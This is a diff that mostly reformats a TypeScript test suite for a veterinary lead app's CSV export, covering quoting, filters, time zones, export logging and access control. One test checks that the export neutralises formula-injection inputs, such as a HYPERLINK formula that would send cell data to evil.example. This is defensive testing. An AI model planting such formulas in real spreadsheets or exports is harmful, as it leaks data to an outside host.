@@ -24,8 +24,12 @@ let a: ReturnType<typeof makeTestApp>
 /** Rows returned by each export page statement, in order. */
 let pages: number[]
 
-beforeAll(async () => { t = await openTestDb() })
-afterAll(async () => { await t.close() })
+beforeAll(async () => {
+  t = await openTestDb()
+})
+afterAll(async () => {
+  await t.close()
+})
 
 function watched(db: Db): Db {
   return {
@@ -48,15 +52,20 @@ beforeEach(async () => {
 })
 
 async function store(clinicId: string, data: Record<string, unknown>, at = NOW) {
-  return t.db.transaction((tx) => storeSubmission(tx, 'health', clinicId, { ...validPet(), ...data }, at, { graceMs: 600_000, clinics: a.deps.clinics }))
+  return t.db.transaction((tx) =>
+    storeSubmission(tx, 'health', clinicId, { ...validPet(), ...data }, at, { graceMs: 600_000, clinics: a.deps.clinics }),
+  )
 }
 
 /** `n` leads of `clinic`, one a minute back from NOW, in one statement (as the inbox bench seeds them). */
 async function seed(clinic: string, n: number) {
-  await t.db.query(`INSERT INTO submissions (id, kind, clinic_id, data, created_at, routed_clinic_id, route_rule, urgency)
+  await t.db.query(
+    `INSERT INTO submissions (id, kind, clinic_id, data, created_at, routed_clinic_id, route_rule, urgency)
     SELECT gen_random_uuid(), 'health', $2, jsonb_build_object('owner_name', 'Owner ' || g, 'pet_name', 'Pet ' || g, 'email', 'o' || g || '@example.com', 'phone_number', '555' || lpad(g::text, 7, '0')),
       $1::timestamptz - (g || ' minutes')::interval, $2, 'clinic form', 'routine'
-    FROM generate_series(1, ${n}) g`, [NOW, clinic])
+    FROM generate_series(1, ${n}) g`,
+    [NOW, clinic],
+  )
 }
 
 async function login(email: string) {
@@ -72,18 +81,33 @@ function request(path: string, headers: Record<string, string>) {
 /** RFC 4180 records (quoted fields, doubled quotes, CRLF), as a spreadsheet program reads them. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = []
-  let row: string[] = [], cell = '', quoted = false
+  let row: string[] = [],
+    cell = '',
+    quoted = false
   for (let i = 0; i < text.length; i++) {
     const ch = text[i]!
     if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (ch === '"') quoted = false
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"'
+        i++
+      } else if (ch === '"') quoted = false
       else cell += ch
     } else if (ch === '"') quoted = true
-    else if (ch === ',') { row.push(cell); cell = '' }
-    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++ }
-    else cell += ch
+    else if (ch === ',') {
+      row.push(cell)
+      cell = ''
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell)
+      rows.push(row)
+      row = []
+      cell = ''
+      i++
+    } else cell += ch
   }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row) }
+  if (cell !== '' || row.length) {
+    row.push(cell)
+    rows.push(row)
+  }
   return rows
 }
 
@@ -132,19 +156,31 @@ describe('CSV export', () => {
     // Newest first, as in the inbox.
     expect(rows[1]![10]).toBe('Owner 1')
     expect(rows[5_000]![10]).toBe('Owner 5000')
-    console.log(`CSV of 5,000 leads: ${total} bytes in ${chunks.length} chunks (largest ${largest}); first rows after ${firstRowsMs.toFixed(0)} ms, all after ${totalMs.toFixed(0)} ms; ${pages.length} page reads`)
+    console.log(
+      `CSV of 5,000 leads: ${total} bytes in ${chunks.length} chunks (largest ${largest}); first rows after ${firstRowsMs.toFixed(0)} ms, all after ${totalMs.toFixed(0)} ms; ${pages.length} page reads`,
+    )
   }, 60_000)
 
   it('writes the BOM and the header, RFC 4180 quoting, and neutralises cells a spreadsheet would run as formulas', async () => {
     const id = await store('willow', {
-      owner_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', pet_name: '+SUM(1,2)', email: '@cmd',
-      phone_number: '-2+3', additional_info: 'x', zip_code: '94566',
+      owner_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      pet_name: '+SUM(1,2)',
+      email: '@cmd',
+      phone_number: '-2+3',
+      additional_info: 'x',
+      zip_code: '94566',
     })
-    const id2 = await store('willow', { owner_name: 'Smith, "Jo"\nJr', pet_name: '\tTab', email: 'plain@example.com', phone_number: '\r5551234567' }, new Date(NOW.getTime() - 60_000))
+    const id2 = await store(
+      'willow',
+      { owner_name: 'Smith, "Jo"\nJr', pet_name: '\tTab', email: 'plain@example.com', phone_number: '\r5551234567' },
+      new Date(NOW.getTime() - 60_000),
+    )
     const { res, bytes, text, rows } = await exportCsv(await login('owner@willow.test'), 'from=2026-03-01&to=2026-03-02')
     expect(res.status).toBe(200)
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
-    expect(text.slice(1).split('\r\n')[0]).toBe('Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link,Complaint,Service,Notes')
+    expect(text.slice(1).split('\r\n')[0]).toBe(
+      'Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link,Complaint,Service,Notes',
+    )
     expect(text.endsWith('\r\n')).toBe(true)
     const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
     const evil = byId.get(id)!
@@ -181,10 +217,21 @@ describe('CSV export', () => {
     const network = await exportCsv(await login('demo@petlead.test'), 'from=2026-02-01&to=2026-03-02')
     expect(network.res.headers.get('content-disposition')).toContain('petlead-leads-network-')
     expect(network.rows).toHaveLength(71)
-    expect((await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02&queue=1`, { cookie: await login('front@willow.test') })).status).toBe(403)
+    expect(
+      (await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02&queue=1`, { cookie: await login('front@willow.test') })).status,
+    ).toBe(403)
     // Each export is one log row in its own clinic's name, counting only the rows it wrote.
-    const logs = await t.db.query<{ clinic_id: string | null; row_count: number }>('SELECT clinic_id, row_count FROM export_log ORDER BY at, row_count')
-    expect(logs.map((l) => [l.clinic_id, Number(l.row_count)]).sort()).toEqual([['acacia', 0], ['pleasanton', 30], ['willow', 40], [null, 70]].sort())
+    const logs = await t.db.query<{ clinic_id: string | null; row_count: number }>(
+      'SELECT clinic_id, row_count FROM export_log ORDER BY at, row_count',
+    )
+    expect(logs.map((l) => [l.clinic_id, Number(l.row_count)]).sort()).toEqual(
+      [
+        ['acacia', 0],
+        ['pleasanton', 30],
+        ['willow', 40],
+        [null, 70],
+      ].sort(),
+    )
   })
 
   it('applies the inbox filters and the date range, days counted in the given time zone', async () => {
@@ -195,16 +242,28 @@ describe('CSV export', () => {
       // 03:00 UTC on 2 March is still 1 March in California.
       lateEvening: await store('willow', { owner_name: 'Evening Owner' }, day('2026-03-02T03:00:00Z')),
       ann: await store('willow', { owner_name: 'Ann Searchable', phone_number: '9255550100' }, day('2026-03-01T17:00:00Z')),
-      urgent: await store('willow', { owner_name: 'Urgent Owner', additional_info: 'She ate chocolate and is having a seizure' }, day('2026-03-01T16:00:00Z')),
+      urgent: await store(
+        'willow',
+        { owner_name: 'Urgent Owner', additional_info: 'She ate chocolate and is having a seizure' },
+        day('2026-03-01T16:00:00Z'),
+      ),
     }
     expect((await a.patch(`${W}/leads/${ids.ann}`, { status: 'contacted' }, { cookie, origin: TEST_ORIGIN })).status).toBe(200)
-    const owners = async (q: string) => (await exportCsv(cookie, q)).rows.slice(1).map((r) => r[10]).sort()
+    const owners = async (q: string) =>
+      (await exportCsv(cookie, q)).rows
+        .slice(1)
+        .map((r) => r[10])
+        .sort()
     expect(await owners('from=2026-03-01&to=2026-03-02')).toEqual(['Ann Searchable', 'Evening Owner', 'Urgent Owner'])
     expect(await owners('from=2026-02-01&to=2026-02-28')).toEqual(['Old Owner'])
     expect(await owners('from=2026-02-01&to=2026-03-02')).toHaveLength(4)
     expect(await owners('from=2026-03-02&to=2026-03-02')).toEqual(['Evening Owner'])
     expect(await owners('from=2026-03-02&to=2026-03-02&tz=America/Los_Angeles')).toEqual([])
-    expect(await owners('from=2026-03-01&to=2026-03-01&tz=America/Los_Angeles')).toEqual(['Ann Searchable', 'Evening Owner', 'Urgent Owner'])
+    expect(await owners('from=2026-03-01&to=2026-03-01&tz=America/Los_Angeles')).toEqual([
+      'Ann Searchable',
+      'Evening Owner',
+      'Urgent Owner',
+    ])
     expect(await owners('from=2026-02-01&to=2026-03-02&status=contacted')).toEqual(['Ann Searchable'])
     expect(await owners('from=2026-02-01&to=2026-03-02&status=new&urgency=emergency')).toEqual(['Urgent Owner'])
     expect(await owners('from=2026-02-01&to=2026-03-02&q=searchable')).toEqual(['Ann Searchable'])
@@ -231,7 +290,7 @@ describe('CSV export', () => {
     expect(row.slice(-3)).toEqual(['Limping on the left hind leg', '', 'Called, no answer'])
   })
 
-  it('records an export of N leads as exactly one log row (who, when, days, filters, zone, rows) and no line in any lead\'s timeline', async () => {
+  it("records an export of N leads as exactly one log row (who, when, days, filters, zone, rows) and no line in any lead's timeline", async () => {
     await seed('willow', 1_200)
     const inRange = await store('willow', { owner_name: 'In Range' })
     const outside = await store('willow', { owner_name: 'Outside' }, new Date('2026-01-05T12:00:00Z'))
@@ -242,9 +301,18 @@ describe('CSV export', () => {
     expect(rows).toHaveLength(1_202)
     // Three pages read (500, 500, 201), one log row.
     expect(pages).toEqual([EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, 201])
-    const logs = await t.db.query<Record<string, unknown>>('SELECT x.*, x.from_day::text AS f, x.to_day::text AS t, u.email FROM export_log x JOIN users u ON u.id = x.user_id')
+    const logs = await t.db.query<Record<string, unknown>>(
+      'SELECT x.*, x.from_day::text AS f, x.to_day::text AS t, u.email FROM export_log x JOIN users u ON u.id = x.user_id',
+    )
     expect(logs).toHaveLength(1)
-    expect(logs[0]).toMatchObject({ clinic_id: 'willow', email: 'front@willow.test', f: '2026-02-01', t: '2026-03-02', tz: 'America/Los_Angeles', file_name: 'petlead-leads-willow-2026-02-01-to-2026-03-02.csv' })
+    expect(logs[0]).toMatchObject({
+      clinic_id: 'willow',
+      email: 'front@willow.test',
+      f: '2026-02-01',
+      t: '2026-03-02',
+      tz: 'America/Los_Angeles',
+      file_name: 'petlead-leads-willow-2026-02-01-to-2026-03-02.csv',
+    })
     expect(Number(logs[0]!.row_count)).toBe(1_201)
     expect(new Date(logs[0]!.at as string).toISOString()).toBe(NOW.toISOString())
     expect(typeof logs[0]!.filters === 'string' ? JSON.parse(logs[0]!.filters) : logs[0]!.filters).toEqual({ status: 'new' })
@@ -264,12 +332,23 @@ describe('CSV export', () => {
     const willowOwner = await login('owner@willow.test')
     const list = await a.get(`${W}/exports`, { cookie: willowOwner })
     expect(list.status).toBe(200)
-    expect(list.json.content.items).toEqual([{
-      id: expect.any(String), at: NOW.toISOString(), actor: 'front@willow.test', from: '2026-03-01', to: '2026-03-02', tz: 'UTC',
-      filters: { kind: 'health' }, file_name: 'petlead-leads-willow-2026-03-01-to-2026-03-02.csv', rows: 3,
-    }])
+    expect(list.json.content.items).toEqual([
+      {
+        id: expect.any(String),
+        at: NOW.toISOString(),
+        actor: 'front@willow.test',
+        from: '2026-03-01',
+        to: '2026-03-02',
+        tz: 'UTC',
+        filters: { kind: 'health' },
+        file_name: 'petlead-leads-willow-2026-03-01-to-2026-03-02.csv',
+        rows: 3,
+      },
+    ])
     const pleasanton = (await a.get(`${W}/exports`, { cookie: await login('owner@pleasanton.test') })).json.content.items
-    expect(pleasanton.map((i: { rows: number; file_name: string }) => [i.rows, i.file_name])).toEqual([[2, 'petlead-leads-pleasanton-2026-03-01-to-2026-03-02.csv']])
+    expect(pleasanton.map((i: { rows: number; file_name: string }) => [i.rows, i.file_name])).toEqual([
+      [2, 'petlead-leads-pleasanton-2026-03-01-to-2026-03-02.csv'],
+    ])
     // A clinic with no export sees an empty list; the front desk is not shown the log; the network sees both.
     expect((await a.get(`${W}/exports`, { cookie: await login('owner@acacia.test') })).json.content.items).toEqual([])
     expect((await a.get(`${W}/exports`, { cookie: await login('front@willow.test') })).status).toBe(403)
